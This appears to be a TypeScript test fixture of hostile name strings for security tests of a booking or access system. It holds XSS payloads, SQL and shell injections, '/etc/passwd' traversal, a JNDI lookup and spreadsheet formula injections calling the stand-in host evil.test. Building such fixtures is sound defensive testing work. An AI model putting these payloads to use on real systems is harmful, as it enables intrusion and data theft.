/**
 * Two hundred names that somebody with bad intentions could give to a person, a door or a booking (SECURITY H5). A script that one of them starts
 * counts itself in `globalThis.owned`. Where they are put, and what must not happen, is the tests'.
 */

const script = 'globalThis.owned=1+(globalThis.owned||0)';

const markup = [
  `<script>${script}</script>`,
  `"><script>${script}</script>`,
  `'><script>${script}</script>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `</style><script>${script}</script>`,
  `--><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.test/a.js></SCRIPT>`,
  `<script/x>${script}</script/x>`,
  `<script src="data:text/javascript,owned=1"></script>`,
  `<script type=module>${script}</script>`,
  '<svg/onload=globalThis.owned=1>',
  `<svg><script>${script}</script></svg>`,
  '<svg><animate onbegin=globalThis.owned=1 attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:owned=1></svg>',
  '<svg><a xlink:href="javascript:owned=1"><text y=9>x</text></a></svg>',
  '<svg><foreignObject><body onload=owned=1></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=owned=1>#x"/>',
  '<math><mtext><img src onerror=globalThis.owned=1></mtext></math>',
  '<math href="javascript:owned=1">click</math>',
  '<img src=x onerror=globalThis.owned=1>',
  '<img src=x:x onerror="globalThis.owned=1">',
  '<img/src=`x`onerror=globalThis.owned=1>',
  '<img src=//evil.test/pixel.gif>',
  '<img srcset="//evil.test/1.gif 1x">',
  '<body onload=globalThis.owned=1>',
  '<details open ontoggle=globalThis.owned=1>',
  '<video src onerror=globalThis.owned=1>',
  '<audio src onerror=globalThis.owned=1>',
  '<video><source onerror=globalThis.owned=1></video>',
  '<input autofocus onfocus=globalThis.owned=1>',
  '<select autofocus onfocus=globalThis.owned=1>',
  '<textarea autofocus onfocus=globalThis.owned=1>',
  '<marquee onstart=globalThis.owned=1>x</marquee>',
  '<a href="javascript:globalThis.owned=1">click</a>',
  '<a href="jav&#x09;ascript:globalThis.owned=1">click</a>',
  '<a href=//evil.test target=_blank>click</a>',
  '<iframe src="javascript:parent.owned=1"></iframe>',
  '<iframe srcdoc="<script>parent.owned=1</script>">',
  '<iframe src=//evil.test></iframe>',
  '<object data="javascript:globalThis.owned=1">',
  '<object data=//evil.test></object>',
  '<embed src="javascript:globalThis.owned=1">',
  '<form action=//evil.test><button>Log in</button>',
  '<form><button formaction="javascript:owned=1">x</button>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<meta http-equiv=refresh content="0;url=javascript:owned=1">',
  '<link rel=stylesheet href=//evil.test/a.css>',
  '<link rel=prefetch href=//evil.test/b>',
  '<link rel=import href=//evil.test/c>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.test/a.css";</style>',
  '<style>body{background:url(//evil.test/d)}</style>',
  '<div style="position:fixed;inset:0;z-index:9">x</div>',
  '<x onclick=globalThis.owned=1>click</x>',
  '<x contenteditable onfocus=owned=1 tabindex=1 id=x>',
  '<template><script>owned=1</script></template>',
  '<noscript><p title="</noscript><img src onerror=owned=1>">',
  '<table background=//evil.test/e><td>',
  '<isindex action=javascript:owned=1 type=image>',
  '<keygen autofocus onfocus=owned=1>',
  '<frameset onload=owned=1>',
  '<dialog open onclose=owned=1>x</dialog>',
  '<portal src=//evil.test></portal>',
  '<b/style=animation-name:x onanimationstart=owned=1>',
  '<!--><img src onerror=globalThis.owned=1>-->',
  '<![CDATA[<script>owned=1</script>]]>',
  '<?xml version="1.0"?><x/>',
  '<!doctype html><title>x</title>',
  '<img src=x onerror\u0000=globalThis.owned=1>',
  '<im\u0000g src=x onerror=globalThis.owned=1>',
  '\u003cscript\u003eowned=1\u003c/script\u003e x',
  '＜script＞owned=1＜/script＞',
  '+ADw-script+AD4-owned=1+ADw-/script+AD4-',
];

const breakouts = [
  '"onmouseover="globalThis.owned=1',
  "'onfocus='globalThis.owned=1' autofocus='",
  '` onmouseover=globalThis.owned=1 `',
  '" autofocus onfocus="globalThis.owned=1',
  '" style="width:99999px',
  '" class="danger" id="main',
  '");globalThis.owned=1;//',
  "');globalThis.owned=1;//",
  '`;globalThis.owned=1;`',
  '${globalThis.owned=1}',
  '{{globalThis.owned=1}}',
  "{{constructor.constructor('owned=1')()}}",
  '{%globalThis.owned=1%}',
  '<%=globalThis.owned=1%>',
  '#{globalThis.owned=1}',
  '[[globalThis.owned=1]]',
  '{person} {digits} {{digits}} ${pin}',
  '%s%s%n%x %d',
  '{"kind":"event","text":"granted"}',
  '"},{"kind":"missed"},{"x":"',
  '\\"}];globalThis.owned=1;//',
  '\\u003cscript\\u003eowned=1\\u003c/script\\u003e',
  '\\x3cimg src onerror=owned=1\\x3e',
  '\u2028globalThis.owned=1\u2029x',
  "';DROP TABLE persons;--",
  '" OR 1=1 --',
  "Robert'); DELETE FROM pins;--",
  '1; SELECT load_extension(1)',
  '%_%',
  '*',
  '$(touch owned)',
  '`touch owned`',
  '; touch owned #',
  '| cat /etc/passwd',
  '../../../etc/passwd',
  '..\\..\\boot.ini',
  'file:///etc/passwd',
  'C:\\con\\con',
  'a\r\nset-cookie: owned=1',
  'a\r\n\r\n<script>owned=1</script>',
  '${jndi:ldap://evil.test/a}',
  'expression(owned=1)',
  'red;background:url(//evil.test/f)',
  '} * { display: none',
  '/*</style><script>owned=1</script>*/',
  '#token=AAAAAAAAAAAAAAAAAAAAAA',
  '#/users',
  '?token=1',
];

const links = [
  'javascript:globalThis.owned=1',
  'JaVaScRiPt:globalThis.owned=1',
  'javascript\t:globalThis.owned=1',
  'java\nscript:globalThis.owned=1',
  'vbscript:owned=1',
  'data:text/html,<script>owned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+',
  '//evil.test/',
  'https://evil.test/?q=',
  'blob:https://evil.test/a',
  'mailto:a@evil.test?bcc=b@evil.test',
  'view-source:javascript:owned=1',
];

const entities = [
  '&lt;script&gt;owned=1&lt;/script&gt;',
  '&#60;script&#62;owned=1&#60;/script&#62;',
  '&#x3c;img src onerror=owned=1&#x3e;',
  '&ltimg src onerror=owned=1&gt',
  '&amp;lt;b&amp;gt;',
  '&nbsp;&zwnj;&rlm;',
  '&colon;&Tab;&NewLine;',
  '&',
  '&#0;&#55296;&#x110000;',
  '%3Cscript%3Eowned=1%3C/script%3E',
];

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.test","click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=IMPORTXML("http://evil.test","//a")',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=1+1";=1+1',
  ',=1+1,',
  ';=1+1;',
  'a,b\r\n=1+1,c',
  '"a""b',
  '","=1+1","',
  '+49 30 1234',
  '-',
  '=',
];

const prototypes = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'valueOf',
  'then',
  'undefined',
  'null',
];
const scalars = ['NaN', 'true', '0', '-1', '1e309', '0417', '[object Object]', '[]', '{}'];

const unicode = [
  '\u202Eadmin\u202C',
  '\u202Etxt.exe',
  '\u2066\u202Eevil\u2069',
  '\u2067rtl\u2067nested',
  'Ada\u200B Lovelace',
  'A\u200Dd\u200Ca\u2060',
  '\u00AD\u00ADsoft',
  '\u200F\u200E\u061Cx',
  'А\u0430da',
  `Z${'\u0300\u0301\u0315\u0489'.repeat(15)}`,
  `${'\u0E49'.repeat(40)}ก`,
  '\u0000null\u0000byte\u0000',
  'a\u0001\u0002\u0007\u0008\u001Bb',
  '\u001B[2J\u001B[31mred',
  '\u009B31mred',
  'a\u0085b\u000Bc\u000Cd',
  '\uFFFE\uFFFFx',
  '\uFDFA'.repeat(40),
  '\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66'.repeat(7),
  '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '\u{E0001}\u{E0041}tag',
  'ﷺ \uFEFF x',
  'İıſK',
  'ﬃ ﬀ',
];

const long = ['W'.repeat(80), 'a-'.repeat(40), '\u5BFF'.repeat(80), '.'.repeat(80), '\u2003\u2003wide\u2003\u2003'.padEnd(79, '\u2003').concat('x')];

/** All differ, are 1 to 80 UTF-16 units long, well-formed, and begin and end with something that is no space: as a name is kept. */
export const hostileStrings: readonly string[] = [
  ...markup,
  ...breakouts,
  ...links,
  ...entities,
  ...formulas,
  ...prototypes,
  ...scalars,
  ...unicode,
  ...long,
].map((text) => text.trim());

const packed = (texts: readonly string[]): readonly string[] => {
  const names: string[] = [];
  for (const text of texts) {
    const both = `${names.at(-1)} ${text}`;
    if (names.length > 0 && both.length <= 80) names[names.length - 1] = both;
    else names.push(text);
  }
  return names;
};

/** The same, as many in one name as have room in it. */
export const packedStrings = packed(hostileStrings);

/** Names that are refused: nothing to see, or too long. */
export const refusedStrings: readonly string[] = ['', ' ', '\t\r\n', '\uFEFF', '\u00A0\u3000', 'a'.repeat(81), '<b>'.repeat(10_000)];

/** What a spreadsheet takes for a formula begins so (OWASP, "CSV Injection"), also in wide letters. */
export const beginsFormula = /^[=+\-@\t\r\n＝＋－＠]/;
